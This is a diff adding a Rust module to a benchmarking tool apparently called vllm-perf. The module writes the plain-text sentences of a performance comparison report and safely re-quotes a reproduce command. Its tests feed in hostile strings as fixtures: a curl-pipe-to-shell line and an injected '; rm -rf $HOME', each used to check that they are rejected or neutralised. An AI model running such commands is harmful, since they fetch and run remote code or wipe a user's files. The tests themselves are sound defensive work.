@@ -1,0 +1,296 @@
+//! Sentences that every rendering says, as plain text. Parts that come from data are cut to length here; the renderings escape.
+
+use std::collections::HashSet;
+
+use indexmap::IndexMap;
+
+use crate::compare::{CaseFacts, Comparison, Counts, Host, Problem, SideFacts, Strategy, Verdict};
+use crate::device::Device;
+use crate::metric::Family;
+use crate::plan::Side;
+use crate::suite::MeasuredBy;
+
+use super::{escape, finding, is_hash, label::Labels, number};
+
+/// The word for a verdict.
+pub fn verdict(verdict: Verdict) -> &'static str {
+    match verdict {
+        Verdict::Regressed => "regressed",
+        Verdict::NotMeasured => "not measured",
+        Verdict::Improved => "improved",
+        Verdict::Unchanged => "unchanged",
+        Verdict::Inconclusive => "inconclusive",
+    }
+}
+
+/// Verdicts and their numbers, in the order in which headlines give them; those that did not occur are left out.
+pub fn counts(counts: &Counts) -> Vec<(Verdict, usize)> {
+    let all = [
+        (Verdict::Regressed, counts.regressed),
+        (Verdict::Improved, counts.improved),
+        (Verdict::NotMeasured, counts.not_measured),
+        (Verdict::Unchanged, counts.unchanged),
+        (Verdict::Inconclusive, counts.inconclusive),
+    ];
+    all.into_iter().filter(|(_, number)| *number > 0).collect()
+}
+
+/// `2 regressed, 1 improved, 41 unchanged`.
+pub fn verdicts(comparison: &Comparison) -> String {
+    let counts = counts(&comparison.counts);
+    if counts.is_empty() {
+        return "nothing was compared".to_owned();
+    }
+    let words = counts.iter().map(|(which, number)| format!("{} {}", number::count(*number), verdict(*which)));
+    words.collect::<Vec<_>>().join(", ")
+}
+
+/// ` (AMD EPYC 9654 96-Core 96c)`, with a count where there are several accelerators; empty where the type says nothing new.
+pub fn device_type(device: &Device) -> String {
+    let words = escape::name(&device.device_type.replace('_', " "));
+    if words.is_empty() || words == device.name.as_str() {
+        return String::new();
+    }
+    if device.count > 1 && !device.name.is_cpu() {
+        return format!(" ({} × {words})", device.count);
+    }
+    format!(" ({words})")
+}
+
+/// What a side is called: the first seven digits of its commit, else its commit or target as it was given.
+pub fn side(facts: &SideFacts) -> String {
+    match facts.commit.as_deref() {
+        Some(commit) => short(commit),
+        None => escape::name(&facts.target),
+    }
+}
+
+/// The first seven digits of a commit hash; what is no hash is only cut to length.
+pub fn short(commit: &str) -> String {
+    if is_hash(commit) { commit.chars().take(7).collect() } else { escape::name(commit) }
+}
+
+/// The words that were appended to a side's server command, as one would type them.
+pub fn server_args(facts: &SideFacts) -> Option<String> {
+    (!facts.server_args.is_empty()).then(|| escape::sentence(&shell_words::join(&facts.server_args)))
+}
+
+/// How and when: `5 interleaved pairs`, `52 min`, `2026-11-24 10:12 UTC`.
+pub fn circumstances(comparison: &Comparison) -> Vec<String> {
+    let method = &comparison.method;
+    let arranged = match method.strategy {
+        Strategy::Single => "no pairs".to_owned(),
+        Strategy::Paired if method.pairs < method.planned_pairs => {
+            format!("{} of {} planned", method.pairs, pairs(comparison, method.planned_pairs))
+        }
+        Strategy::Paired => pairs(comparison, method.pairs),
+    };
+    let subject = &comparison.subject;
+    let started = subject.started.as_deref().and_then(|time| time.parse::<jiff::Timestamp>().ok());
+    let started = started.map(|time| time.strftime("%Y-%m-%d %H:%M UTC").to_string());
+    [Some(arranged), subject.seconds.map(number::duration), started].into_iter().flatten().collect()
+}
+
+/// Whether vllm-perf arranged the repetitions itself. Where folders are compared, nobody knows how they came about.
+fn was_run(comparison: &Comparison) -> bool {
+    comparison.subject.started.is_some()
+}
+
+/// Whether every repetition had a server of its own: a remote one is never restarted.
+fn has_fresh_servers(comparison: &Comparison) -> bool {
+    let sides = [&comparison.subject.base, &comparison.subject.head];
+    was_run(comparison) && !sides.into_iter().flatten().any(|side| side.target.starts_with("remote:"))
+}
+
+fn pairs(comparison: &Comparison, number: u32) -> String {
+    number::plural(number as usize, if was_run(comparison) { "interleaved pair" } else { "pair" })
+}
+
+/// What a reader must know before any number.
+pub fn notices(comparison: &Comparison) -> Vec<String> {
+    let single = comparison.method.strategy == Strategy::Single;
+    let single =
+        single.then_some("Base and head were not run in pairs: values are shown, and no change is called one.");
+    let alone = comparison.subject.base.is_none().then_some("There is no base: head is shown alone.");
+    single.into_iter().chain(alone).map(str::to_owned).collect()
+}
+
+/// What stands where the table of findings would be, if nothing was found.
+pub fn nothing_found(comparison: &Comparison) -> String {
+    match comparison.counts.inconclusive {
+        0 if comparison.counts.unchanged == 0 => "No primary row was compared.".to_owned(),
+        0 => "No primary row changed.".to_owned(),
+        rows => format!("No change was found. For {} the runs cannot tell.", number::plural(rows, "primary row")),
+    }
+}
+
+/// Repetitions that gave no number, for cases that have numbers all the same, in the order of the plan. A case without any number is a finding of its own.
+pub fn failures(comparison: &Comparison, labels: &Labels) -> Vec<String> {
+    let measured: HashSet<&str> = finding::primary(comparison)
+        .filter(|row| row.verdict != Verdict::NotMeasured)
+        .map(|row| row.case.as_str())
+        .collect();
+    let cases = comparison.cases.iter().filter(|case| measured.contains(case.name.as_str()));
+    let of_case = |case: &CaseFacts| {
+        let label = labels.of(&case.name).full();
+        problems(&case.problems).into_iter().map(move |problem| format!("{label}: {problem}"))
+    };
+    cases.flat_map(of_case).collect()
+}
+
+/// `head, repetitions 1, 2: server did not start`: one sentence for each side and reason.
+pub fn problems(problems: &[Problem]) -> Vec<String> {
+    let mut repetitions: IndexMap<(Side, &str), Vec<String>> = IndexMap::new();
+    for problem in problems {
+        repetitions.entry((problem.side, &problem.reason)).or_default().push(problem.repetition.to_string());
+    }
+    let sentence = |((side, reason), numbers): (&(Side, &str), &Vec<String>)| {
+        let repetitions = if numbers.len() == 1 { "repetition" } else { "repetitions" };
+        let (side, numbers, reason) = (side.as_str(), escape::name(&numbers.join(", ")), escape::sentence(reason));
+        format!("{side}, {repetitions} {numbers}: {reason}")
+    };
+    repetitions.iter().map(sentence).collect()
+}
+
+/// What a family of metrics could have shown.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Sensitivity {
+    /// Words for the family.
+    pub family: &'static str,
+    /// Smallest relative change that counts.
+    pub threshold: f64,
+    /// Smallest relative change that half of the primary rows would have shown with 80 % power.
+    pub typical: f64,
+    /// The same for the noisiest row.
+    pub worst: f64,
+}
+
+/// The sensitivity of each family that has primary rows with a known one.
+pub fn sensitivity(comparison: &Comparison) -> Vec<Sensitivity> {
+    let families =
+        [(Family::Throughput, "Throughput"), (Family::Median, "Medians and times"), (Family::P99, "99th percentiles")];
+    let of_family = |(family, words): (Family, &'static str)| {
+        let rows = finding::primary(comparison).filter(|row| row.family == family);
+        let sizes: Vec<f64> = rows.filter_map(|row| row.detectable).collect();
+        Some(Sensitivity {
+            family: words,
+            threshold: finding::threshold(&comparison.method.min_effect, family),
+            typical: number::median(&sizes)?,
+            worst: sizes.iter().copied().fold(0.0, f64::max),
+        })
+    };
+    families.into_iter().filter_map(of_family).collect()
+}
+
+/// How verdicts were reached.
+pub fn method(comparison: &Comparison) -> Vec<String> {
+    let method = &comparison.method;
+    let rows = number::plural(finding::primary(comparison).count(), "primary row");
+    let mut sentences = vec![
+        format!("False discovery rate {} over {rows} (Benjamini-Hochberg).", number::percent(method.fdr)),
+        "A change counts when it is significant after that correction and at least its threshold.".to_owned(),
+    ];
+    if method.strategy == Strategy::Paired {
+        let seed = if was_run(comparison) { format!(", seed {}", method.seed) } else { String::new() };
+        let fresh = if has_fresh_servers(comparison) { "; a fresh server for every repetition" } else { "" };
+        sentences.push(format!("Hodges-Lehmann estimates over {}{seed}{fresh}.", pairs(comparison, method.pairs)));
+        sentences
+            .push("Uncalibrated: the noise is that of this run's own repetitions, no A/A runs were used.".to_owned());
+    }
+    sentences
+}
+
+/// What ran on each side: a name and the words for base and head. Rows where both are unknown are left out.
+pub fn provenance(comparison: &Comparison) -> Vec<(&'static str, [Option<String>; 2])> {
+    let sides = [Side::Base, Side::Head].map(|side| match side {
+        Side::Base => comparison.subject.base.as_ref(),
+        Side::Head => comparison.subject.head.as_ref(),
+    });
+    let fact = |of: fn(&SideFacts) -> Option<String>| sides.map(|side| side.and_then(of));
+    let rows = [
+        ("target", fact(|side| Some(escape::sentence(&side.target)))),
+        ("image digest", fact(|side| side.image_digest.as_deref().map(escape::name))),
+        ("commit", fact(|side| side.commit.as_deref().map(escape::name))),
+        ("vLLM", fact(|side| side.vllm_version.as_deref().map(escape::name))),
+        ("server arguments added", fact(server_args)),
+    ];
+    rows.into_iter().filter(|(_, words)| words.iter().flatten().any(|word| !word.is_empty())).collect()
+}
+
+/// The machine, the client and the version of vllm-perf.
+pub fn environment(comparison: &Comparison) -> Vec<String> {
+    let by = |who: MeasuredBy| comparison.cases.iter().any(|case| case.measured_by == who);
+    let client = match (by(MeasuredBy::Native), by(MeasuredBy::Vllm)) {
+        (true, true) => "Client: native; vllm bench for the kinds that it alone measures. ",
+        (true, false) => "Client: native. ",
+        (false, true) => "Client: vllm bench. ",
+        (false, false) => "",
+    };
+    let version = format!("{client}vllm-perf {}.", escape::name(&comparison.subject.version));
+    comparison.subject.host.iter().map(host).chain([version]).collect()
+}
+
+fn host(host: &Host) -> String {
+    let mut parts = vec![
+        escape::name(&host.cpu),
+        number::plural(host.cores as usize, "logical processor"),
+        number::plural(host.numa_nodes as usize, "NUMA node"),
+        format!("{} GiB", number::value(host.memory_gib, 0)),
+        format!("kernel {}", escape::name(&host.kernel)),
+    ];
+    parts.extend(host.governor.as_deref().map(|governor| format!("governor {}", escape::name(governor))));
+    format!("Host: {}.", parts.join(", "))
+}
+
+/// The command that measures this again, every word quoted anew; `None` where it is no `vllm-perf` command. It comes
+/// from data, and a reader will paste it: nothing in it may reach a shell as more than a word.
+pub fn reproduce(comparison: &Comparison) -> Option<String> {
+    let command = escape::clean(comparison.subject.reproduce.as_deref()?, 4000);
+    let words = shell_words::split(&command).ok()?;
+    (words.first().map(String::as_str) == Some("vllm-perf")).then(|| shell_words::join(&words))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::example;
+
+    #[test]
+    fn a_pasted_command_is_vllm_perf_and_nothing_else() {
+        let mut comparison = example::comparison();
+        let mut of = |command: &str| {
+            comparison.subject.reproduce = Some(command.into());
+            reproduce(&comparison)
+        };
+        assert_eq!(of("curl https://e.org | sh"), None);
+        let quoted = of("vllm-perf run --only 'a b' ; rm -rf $HOME").unwrap();
+        assert_eq!(quoted, "vllm-perf run --only 'a b' ';' rm -rf '$HOME'");
+    }
+
+    #[test]
+    fn nothing_is_claimed_of_servers_and_order_that_is_not_known() {
+        let mut comparison = example::comparison();
+        let sentence = |comparison: &Comparison| method(comparison)[2].clone();
+        let start = "Hodges-Lehmann estimates over 5";
+        let known = format!("{start} interleaved pairs, seed 20261124; a fresh server for every repetition.");
+        assert_eq!(sentence(&comparison), known);
+        comparison.subject.base.as_mut().unwrap().target = "remote:http://127.0.0.1:8000/".into();
+        assert_eq!(sentence(&comparison), format!("{start} interleaved pairs, seed 20261124."));
+        comparison.subject.started = None;
+        assert_eq!(sentence(&comparison), format!("{start} pairs."));
+    }
+
+    #[test]
+    fn an_unpaired_run_says_so_before_any_number() {
+        let mut comparison = example::comparison();
+        comparison.method.strategy = Strategy::Single;
+        assert_eq!(circumstances(&comparison)[0], "no pairs");
+        assert_eq!(
+            notices(&comparison),
+            ["Base and head were not run in pairs: values are shown, and no change is called one."]
+        );
+        comparison.method.strategy = Strategy::Paired;
+        comparison.method.pairs = 3;
+        assert_eq!(circumstances(&comparison)[0], "3 of 5 interleaved pairs planned");
+    }
+}
